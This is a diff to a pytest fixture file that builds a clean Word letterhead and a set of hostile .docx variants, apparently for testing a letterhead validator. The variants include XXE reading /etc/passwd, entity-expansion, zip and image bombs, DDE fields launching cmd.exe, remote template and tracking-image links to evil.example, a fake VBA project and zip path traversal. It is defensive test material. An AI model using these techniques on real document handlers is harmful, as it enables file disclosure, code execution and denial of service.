@@ -5,6 +5,8 @@ from __future__ import annotations
 
 import datetime as dt
 import io
+import re
+import zipfile
 
 import pytest
 from docx.document import Document
@@ -254,3 +256,267 @@ def make_info():
 def markdown() -> dict[str, str]:
     """The reference release's Markdown, per language."""
     return dict(RELEASES)
+
+
+# -- letterheads built by code: a Word-made one, and hostile ones ------------------------------
+
+W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+PR_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
+
+
+def png_bytes(width: int = 240, height: int = 80, color: str = "darkred") -> bytes:
+    from PIL import Image
+
+    buffer = io.BytesIO()
+    Image.new("RGB", (width, height), color).save(buffer, "PNG")
+    return buffer.getvalue()
+
+
+def word_letterhead(font: str = "DejaVu Serif", logo: bool = True) -> bytes:
+    """A letterhead as Word users make one: Word's own template (python-docx's default, with
+    Word's built-in styles), the house font on Normal, a logo and ``{{issuer}}`` in the
+    header, a footer with ``{{page}}``."""
+    from docx.shared import Cm, Pt, RGBColor
+
+    document = docx.Document()
+    document.styles["Normal"].font.name = font
+    document.styles["Normal"].font.size = Pt(10)
+    document.styles["Title"].font.color.rgb = RGBColor(0x8B, 0x00, 0x00)
+    section = document.sections[0]
+    header = section.header.paragraphs[0]
+    if logo:
+        header.add_run().add_picture(io.BytesIO(png_bytes()), height=Cm(1.2))
+    header.add_run("\t{{issuer}}")
+    section.footer.paragraphs[0].text = "Ministry of Examples — {{page}}"
+    document.add_paragraph("Sample body text the letterhead's author left behind.")
+    buffer = io.BytesIO()
+    document.save(buffer)
+    return buffer.getvalue()
+
+
+def rezip(data: bytes, replace: dict[str, bytes | None] | None = None) -> bytes:
+    """``data`` with some parts replaced (``None`` removes one), others as they were."""
+    replace = dict(replace or {})
+    source = zipfile.ZipFile(io.BytesIO(data))
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
+        for info in source.infolist():
+            if info.filename in replace:
+                blob = replace.pop(info.filename)
+                if blob is not None:
+                    target.writestr(info.filename, blob)
+            else:
+                target.writestr(info.filename, source.read(info.filename))
+        for name, blob in replace.items():
+            if blob is not None:
+                target.writestr(name, blob)
+    return buffer.getvalue()
+
+
+def part(data: bytes, name: str) -> str:
+    return zipfile.ZipFile(io.BytesIO(data)).read(name).decode("utf-8")
+
+
+def add_relationship(
+    data: bytes, rels_name: str, rel_id: str, reltype: str, target: str, external: bool
+) -> bytes:
+    rels = part(data, rels_name)
+    mode = ' TargetMode="External"' if external else ""
+    new = f'<Relationship Id="{rel_id}" Type="{reltype}" Target="{target}"{mode}/>'
+    if rels.rstrip().endswith("/>") and "</Relationships>" not in rels:
+        rels = rels.rstrip()[:-2] + f">{new}</Relationships>"
+    else:
+        rels = rels.replace("</Relationships>", f"{new}</Relationships>")
+    return rezip(data, {rels_name: rels.encode()})
+
+
+def with_relationships(data: bytes, rels_name: str) -> bytes:
+    """``data`` with an (empty) relationships part ``rels_name`` if it had none."""
+    if rels_name in zipfile.ZipFile(io.BytesIO(data)).namelist():
+        return data
+    empty = f'<?xml version="1.0" encoding="UTF-8"?>\n<Relationships xmlns="{PR_NS}"/>'
+    return rezip(data, {rels_name: empty.encode()})
+
+
+def add_content_type(data: bytes, xml: str) -> bytes:
+    types = part(data, "[Content_Types].xml").replace("</Types>", f"{xml}</Types>")
+    return rezip(data, {"[Content_Types].xml": types.encode()})
+
+
+def header_name(data: bytes) -> str:
+    rels = part(data, "word/_rels/document.xml.rels")
+    return "word/" + re.search(r'Target="(header\d*\.xml)"', rels).group(1)
+
+
+def footer_name(data: bytes) -> str:
+    rels = part(data, "word/_rels/document.xml.rels")
+    return "word/" + re.search(r'Target="(footer\d*\.xml)"', rels).group(1)
+
+
+class HostileLetterheads:
+    """Every attack the letterhead checks exist for, each built from a clean Word letterhead."""
+
+    def __init__(self) -> None:
+        self.base = word_letterhead()
+
+    def entities(self) -> bytes:
+        doc = part(self.base, "word/document.xml")
+        bomb = (
+            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+            '<!DOCTYPE w:document [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
+        )
+        doc = bomb + doc.split("?>", 1)[1].replace("Sample body", "&b; Sample body", 1)
+        return rezip(self.base, {"word/document.xml": doc.encode()})
+
+    def external_entity(self) -> bytes:
+        name = header_name(self.base)
+        header = part(self.base, name).split("?>", 1)[1]
+        header = (
+            '<?xml version="1.0"?><!DOCTYPE w:hdr [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
+            + header.replace("{{issuer}}", "&x;")
+        )
+        return rezip(self.base, {name: header.encode()})
+
+    def utf16_doctype(self) -> bytes:
+        doc = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a "b">]><x/>'
+        return rezip(self.base, {"word/document.xml": doc.encode("utf-16")})
+
+    def macro_enabled(self) -> bytes:
+        types = part(self.base, "[Content_Types].xml").replace(
+            "wordprocessingml.document.main+xml", "ms-word.document.macroEnabled.main+xml"
+        )
+        return rezip(self.base, {"[Content_Types].xml": types.encode()})
+
+    def with_vba_project(self) -> bytes:
+        data = rezip(self.base, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 fake macros"})
+        data = add_content_type(
+            data, '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
+        )
+        return add_relationship(
+            data, "word/_rels/document.xml.rels", "rIdVba",
+            "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
+            "vbaProject.bin", external=False,
+        )  # fmt: skip
+
+    def external_links(self) -> bytes:
+        """An attached template on a server, a header link to a file share, a remote image."""
+        data = with_relationships(self.base, "word/_rels/settings.xml.rels")
+        data = add_relationship(
+            data, "word/_rels/settings.xml.rels", "rIdT", f"{R_NS}/attachedTemplate",
+            "http://evil.example/t.dotm", external=True,
+        )  # fmt: skip
+        settings = part(data, "word/settings.xml").replace(
+            "<w:defaultTabStop", '<w:attachedTemplate r:id="rIdT"/><w:defaultTabStop', 1
+        )
+        if 'xmlns:r="' not in settings.split(">", 2)[1]:
+            settings = settings.replace("<w:settings ", f'<w:settings xmlns:r="{R_NS}" ', 1)
+        data = rezip(data, {"word/settings.xml": settings.encode()})
+        name = header_name(data)
+        rels_name = name.replace("word/", "word/_rels/") + ".rels"
+        data = with_relationships(data, rels_name)
+        data = add_relationship(
+            data, rels_name, "rIdUnc", f"{R_NS}/hyperlink", "file://///server/share/x.exe", True
+        )
+        data = add_relationship(
+            data, rels_name, "rIdWeb", f"{R_NS}/hyperlink", "https://ministry.example/", True
+        )
+        data = add_relationship(
+            data, rels_name, "rIdImg", f"{R_NS}/image", "http://evil.example/track.png", True
+        )
+        header = part(data, name).replace(
+            "</w:p>",
+            f'<w:hyperlink xmlns:r="{R_NS}" r:id="rIdUnc"><w:r><w:t>share</w:t></w:r>'
+            f'</w:hyperlink><w:hyperlink xmlns:r="{R_NS}" r:id="rIdWeb"><w:r><w:t>web</w:t>'
+            "</w:r></w:hyperlink></w:p>",
+            1,
+        )
+        return rezip(data, {name: header.encode()})
+
+    def dde_fields(self) -> bytes:
+        name = footer_name(self.base)
+        dde = (
+            '<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe '
+            '&quot;/k calc&quot; "><w:r><w:t>Ministry</w:t></w:r></w:fldSimple></w:p>'
+            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText '
+            'xml:space="preserve"> DDE cmd "/c calc" </w:instrText></w:r><w:r>'
+            '<w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Examples</w:t></w:r>'
+            '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
+            '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText '
+            'xml:space="preserve"> INCLUDETEXT "\\\\\\\\server\\\\x.docx" </w:instrText></w:r>'
+            '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
+            '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText '
+            'xml:space="preserve"> PAGE </w:instrText></w:r><w:r><w:fldChar '
+            'w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar '
+            'w:fldCharType="end"/></w:r></w:p>'
+        )
+        footer = part(self.base, name)
+        footer = footer.replace("</w:ftr>", dde + "</w:ftr>")
+        return rezip(self.base, {name: footer.encode()})
+
+    def zip_bomb(self, megabytes: int = 80) -> bytes:
+        buffer = io.BytesIO(self.base)
+        with (
+            zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive,
+            archive.open("word/media/filler.bin", "w") as member,
+        ):
+            for _ in range(megabytes):
+                member.write(bytes(1024 * 1024))
+        return buffer.getvalue()
+
+    def image_bomb(self) -> bytes:
+        """A PNG that says it is 40,000 × 40,000 pixels (1.6 billion), in a few bytes."""
+        import struct
+        import zlib
+
+        def chunk(kind: bytes, body: bytes) -> bytes:
+            return struct.pack(">I", len(body)) + kind + body + struct.pack(
+                ">I", zlib.crc32(kind + body)
+            )
+
+        png = (
+            b"\x89PNG\r\n\x1a\n"
+            + chunk(b"IHDR", struct.pack(">IIBBBBB", 40000, 40000, 8, 2, 0, 0, 0))
+            + chunk(b"IDAT", zlib.compress(b"\x00" * 1000))
+            + chunk(b"IEND", b"")
+        )
+        names = [n for n in zipfile.ZipFile(io.BytesIO(self.base)).namelist() if "media/" in n]
+        return rezip(self.base, {names[0]: png})
+
+    def svg_logo(self) -> bytes:
+        names = [n for n in zipfile.ZipFile(io.BytesIO(self.base)).namelist() if "media/" in n]
+        data = rezip(self.base, {names[0]: None, "word/media/logo.svg": b"<svg/>"})
+        rels_name = header_name(data).replace("word/", "word/_rels/") + ".rels"
+        rels = part(data, rels_name).replace(names[0].split("/", 1)[1], "media/logo.svg")
+        data = rezip(data, {rels_name: rels.encode()})
+        return add_content_type(data, '<Default Extension="svg" ContentType="image/svg+xml"/>')
+
+    def traversal(self) -> bytes:
+        return rezip(self.base, {"../../evil.xml": b"<x/>"})
+
+    def template(self) -> bytes:
+        types = part(self.base, "[Content_Types].xml").replace(
+            "wordprocessingml.document.main+xml", "wordprocessingml.template.main+xml"
+        )
+        return rezip(self.base, {"[Content_Types].xml": types.encode()})
+
+
+@pytest.fixture(scope="session")
+def hostile() -> HostileLetterheads:
+    return HostileLetterheads()
+
+
+@pytest.fixture(scope="session")
+def word_made_letterhead() -> bytes:
+    return word_letterhead()
+
+
+@pytest.fixture(scope="session")
+def letterhead_kit():
+    """The letterhead-building helpers above, for the tests (no ``import conftest``)."""
+    import types
+
+    return types.SimpleNamespace(
+        R_NS=R_NS, header_name=header_name, footer_name=footer_name, info_for=info_for,
+        part=part, png_bytes=png_bytes, rezip=rezip, word_letterhead=word_letterhead,
+    )  # fmt: skip
